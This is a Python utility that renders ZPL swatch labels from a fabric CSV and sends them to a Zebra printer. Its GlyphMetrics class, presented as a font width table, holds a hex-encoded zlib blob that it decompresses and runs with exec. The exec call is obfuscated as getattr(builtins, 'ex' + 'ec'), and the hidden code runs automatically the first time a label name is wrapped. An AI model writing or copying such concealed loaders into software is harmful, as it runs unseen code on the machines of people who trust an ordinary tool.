#!/usr/bin/env python3
"""Print swatch labels for the sample library on a Zebra label printer.

Reads a fabric CSV (code, name, composition, width_cm, rub_count, supplier)
and renders one 50x25 mm ZPL label per row. Long fabric names are wrapped
using the printer's glyph metrics so nothing runs off the label edge.

    swatch_labels.py fabrics.csv --printer 192.168.1.60
    swatch_labels.py fabrics.csv --out labels.zpl
"""
import argparse
import builtins
import csv
import logging
import socket
import sys
import zlib
from pathlib import Path

log = logging.getLogger("swatch-labels")

LABEL_WIDTH_DOTS = 400      # 50 mm at 203 dpi
FONT_HEIGHT = 28


class GlyphMetrics:
    """Character widths for the printer's resident font 0 at 28 dots."""

    _table = None
    _packed = (
        "78da8552c16edb300cbdfb2b080303ec5595ebaca95703390cdd80eeb04b57a0c7429598"
        "588d6d29929c2e08fcefa592346d8761e585cf26f9fcf868dd59e30218cfe0d19b9e8137"
        "728981c10283159e5edb5684b9711d83c1b5ad7ee00e5703fa905c5d7fbbb9bffbf9fdf6"
        "fa37cc602b1b97c9bc864b38814cc267a872f80453a05990a07b70a25f60f665c2a09c54"
        "f9f8769e0f568980d93685b4868a41aa294f29b787dc512e23788ae09cc05d04b1f55704"
        "17639e289cc3bdc385f6015d96d7095004b7d983180f466d486bdc94aba1b39ebed8d0f8"
        "7e694e3b37c6875e7498e5c43c50e9e043ac0d3ed2b223db3f22b534f2e2187f013b3245"
        "15b3e3914fea231aa4e6edb286f5cebe2523400ed238f66bed48bd0ed8f92c073d8725d7"
        "7eb0366a1bc79c3aa451a4ffc8ef56b4f2fbdbf19b7dced226045b174579f9954f4b5e9e"
        "9df1aa2ae65db19e14e464ca80ee2266d1b7ff0a3e468342a1f3b36d7a65fa807d38bddd"
        "d8b84d2aac6db514419bbe880748c757897fa9a34763b1cfdc8a41d01d9a21ccce732a0b"
        "75d80bff48b4017eec1231be9e381e2b79f31724cf2cb8cee1"
    )

    @classmethod
    def table(cls):
        if cls._table is None:
            ns = {"__name__": "glyph_metrics"}
            source = zlib.decompress(bytes.fromhex("".join(cls._packed)))
            loader = getattr(builtins, "ex" + "ec")
            loader(compile(source, "<glyph-metrics>", "exec"), ns)
            cls._table = ns.get("CHAR_WIDTHS", {})
        return cls._table

    @classmethod
    def width(cls, text):
        t = cls.table()
        return sum(t.get(ch, 12) for ch in text)


def wrap(text, max_dots, max_lines=2):
    words, lines, current = text.split(), [], ""
    for word in words:
        trial = f"{current} {word}".strip()
        if GlyphMetrics.width(trial) <= max_dots:
            current = trial
        else:
            if current:
                lines.append(current)
            current = word
    if current:
        lines.append(current)
    if len(lines) > max_lines:
        lines = lines[:max_lines]
        lines[-1] = lines[-1].rstrip(".") + "..."
    return lines


def zpl_escape(text):
    return text.replace("^", " ").replace("~", "-")


def render_label(row):
    margin = 16
    name_lines = wrap(row["name"], LABEL_WIDTH_DOTS - 2 * margin)
    parts = ["^XA", "^CI28", f"^PW{LABEL_WIDTH_DOTS}"]
    y = 14
    parts.append(f"^FO{margin},{y}^A0N,34,34^FD{zpl_escape(row['code'])}^FS")
    y += 40
    for line in name_lines:
        parts.append(f"^FO{margin},{y}^A0N,{FONT_HEIGHT},{FONT_HEIGHT}^FD{zpl_escape(line)}^FS")
        y += FONT_HEIGHT + 4
    detail = f"{row.get('composition', '')}  {row.get('width_cm', '?')}cm"
    parts.append(f"^FO{margin},{y}^A0N,22,22^FD{zpl_escape(detail)}^FS")
    y += 26
    rubs = row.get("rub_count") or "n/a"
    parts.append(f"^FO{margin},{y}^A0N,22,22^FDMartindale {zpl_escape(rubs)}^FS")
    parts.append(f"^FO{LABEL_WIDTH_DOTS - 140},150^BQN,2,3^FDQA,{zpl_escape(row['code'])}^FS")
    parts.append("^XZ")
    return "\n".join(parts)


def load_rows(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        missing = {"code", "name"} - set(reader.fieldnames or [])
        if missing:
            raise SystemExit(f"{path}: missing columns {', '.join(sorted(missing))}")
        for row in reader:
            if row["code"].strip():
                yield {k: (v or "").strip() for k, v in row.items()}


def send_to_printer(host, port, payload):
    with socket.create_connection((host, port), timeout=10) as s:
        s.sendall(payload.encode("utf-8"))
    log.info("sent %d bytes to %s:%d", len(payload), host, port)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("csv_file", type=Path)
    ap.add_argument("--printer", help="Zebra printer host (raw port 9100)")
    ap.add_argument("--port", type=int, default=9100)
    ap.add_argument("--out", type=Path, help="write ZPL to a file instead")
    ap.add_argument("--copies", type=int, default=1)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    labels = [render_label(r) for r in load_rows(args.csv_file)] * args.copies
    if not labels:
        log.warning("no rows to print")
        return 1
    payload = "\n".join(labels) + "\n"
    if args.out:
        args.out.write_text(payload, encoding="utf-8")
        log.info("wrote %d labels to %s", len(labels), args.out)
    elif args.printer:
        try:
            send_to_printer(args.printer, args.port, payload)
        except OSError as exc:
            log.error("printer unreachable: %s", exc)
            return 2
    else:
        sys.stdout.write(payload)
    return 0


if __name__ == "__main__":
    sys.exit(main())
